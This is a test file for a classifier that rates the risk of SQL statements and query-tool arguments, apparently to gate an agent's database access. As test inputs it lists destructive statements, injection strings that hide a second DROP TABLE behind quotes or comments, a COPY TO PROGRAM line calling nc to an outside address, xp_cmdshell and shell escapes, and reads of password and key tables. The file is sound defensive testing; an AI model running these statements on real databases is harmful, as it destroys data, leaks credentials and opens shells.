import { describe, expect, it } from 'vitest';
import { levelOf, levelOfSql } from './levels.js';

describe('an SQL statement', () => {
  it.each([
    'SELECT 1',
    "SELECT 'DELETE FROM users' AS text",
    'SELECT "delete" FROM t -- DROP TABLE t',
    'SELECT /* DROP TABLE t */ count(*) FROM t',
    'WITH x AS (SELECT 1) SELECT * FROM x',
    'EXPLAIN DELETE FROM t',
    'SHOW TABLES',
    'COPY (SELECT 1) TO STDOUT',
    'PRAGMA table_info(t)',
    "SELECT replace(name, 'a', 'b') FROM t",
    'BEGIN; SELECT 1; ROLLBACK',
  ])('is low where it reads: %s', (sql) => {
    expect(levelOfSql(sql)).toBe('low');
  });

  it.each([
    'INSERT INTO t VALUES (1)',
    'UPDATE t SET a = 1 WHERE id = 2',
    'DELETE FROM t WHERE id = 2',
    'SELECT * INTO backup FROM t',
    'SELECT pg_terminate_backend(1)',
    'SELECT delete_user(1)',
    "COPY t TO '/tmp/x'",
    'CALL archive()',
    'EXPLAIN ANALYZE INSERT INTO t VALUES (1)',
    'frobnicate the table',
    "SELECT 'open",
    'SELECT /* open',
  ])('is high where it writes, acts or cannot be told apart: %s', (sql) => {
    expect(levelOfSql(sql)).toBe('high');
  });

  it.each([
    'DELETE FROM t',
    'UPDATE t SET a = 1',
    'DELETE FROM t WHERE 1 = 1',
    'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x',
    'EXPLAIN ANALYZE DELETE FROM t',
    'DROP TABLE t',
    'TRUNCATE t',
    'ALTER TABLE t ADD c int',
    'GRANT ALL ON t TO intern',
    "COPY t TO PROGRAM 'nc 198.51.100.7 99'",
    'SELECT 1; DROP TABLE t',
    '(SELECT 1); DELETE FROM t',
    'CREATE ROLE x',
  ])('is critical where it has no condition, or changes schema or rights: %s', (sql) => {
    expect(levelOfSql(sql)).toBe('critical');
  });

  it('counts by its gravest reading where databases read it differently', () => {
    const hidden = [
      "SELECT '\\'; DROP TABLE t; --'",
      "SELECT 1 # '\n; DROP TABLE t; -- '",
      'SELECT 1 --1; DROP TABLE t',
      'SELECT 1 /*! ; DROP TABLE t */',
      'SELECT 1 /* /* */ ; DROP TABLE t; -- */ */',
    ];
    for (const sql of hidden) expect([sql, levelOfSql(sql)]).toEqual([sql, 'critical']);
  });

  it.each([
    'SELECT 1 DROP TABLE t',
    'SELECT 1 SHUTDOWN',
    'SELECT 1 RESTORE DATABASE x',
    'SELECT a FROM t KILL 55',
    'USE x DROP TABLE t',
    'BEGIN DELETE FROM t WHERE a = 1 END',
    'BEGIN EXEC x END',
    'ROLLBACK DROP TABLE t',
    "EXEC sp_helptext 'x' EXEC xp_cmdshell 'y'",
    'START SLAVE',
    'SET ROWCOUNT 0 DELETE FROM t WHERE a = 1',
    'PRAGMA journal_mode(DELETE)',
    'PRAGMA foreign_keys(0)',
    'EXPLAIN ANALYZE EXECUTE x',
    'EXPLAIN ANALYZE CALL x()',
    'SELECT 1 \\! rm x',
    "SELECT 'DROP TABLE t' \\gexec",
    'SELECT 1 \\o x',
    "SELECT e'\\'; DROP TABLE t; --'",
    'SELECT 1 --\r; DROP TABLE t',
    "SELECT DBMS_XMLGEN.getxml('x') FROM dual",
  ])('is high or above where another statement or a command of the client stands behind it: %j', (sql) => {
    expect(['high', 'critical']).toContain(levelOfSql(sql));
  });

  it.each([
    'SELECT backup, kill, shutdown FROM jobs',
    'SELECT count(*) restore FROM t',
    'SHOW CREATE TABLE t',
    'SHOW VARIABLES',
    'SHOW TABLES\\G',
  ])('is low where a word only names a column: %j', (sql) => {
    expect(levelOfSql(sql)).toBe('low');
  });

  it('shows secrets where it reads tables or columns of secrets', () => {
    for (const sql of [
      'SELECT * FROM pg_shadow',
      'SELECT * FROM mysql.user',
      'SHOW SECRETS',
      'SELECT password_hash FROM users',
      'SELECT api_key FROM accounts',
    ])
      expect([sql, levelOfSql(sql)]).toEqual([sql, 'medium']);
  });

  it('is found under any key of a tool that queries, and not in a sentence', () => {
    expect(levelOf('query', { q: 'DELETE FROM users' })).toBe('critical');
    expect(levelOf('query', 'SELECT 1; DROP TABLE users')).toBe('critical');
    expect(levelOf('run_cypher', { query: 'MATCH (n) DETACH DELETE n' })).toBe('high');
    for (const query of ['delete account fails', 'update on the release', 'select the best option', 'drop me a line'])
      expect([query, levelOf('search_issues', { query })]).toEqual([query, 'low']);
  });
});
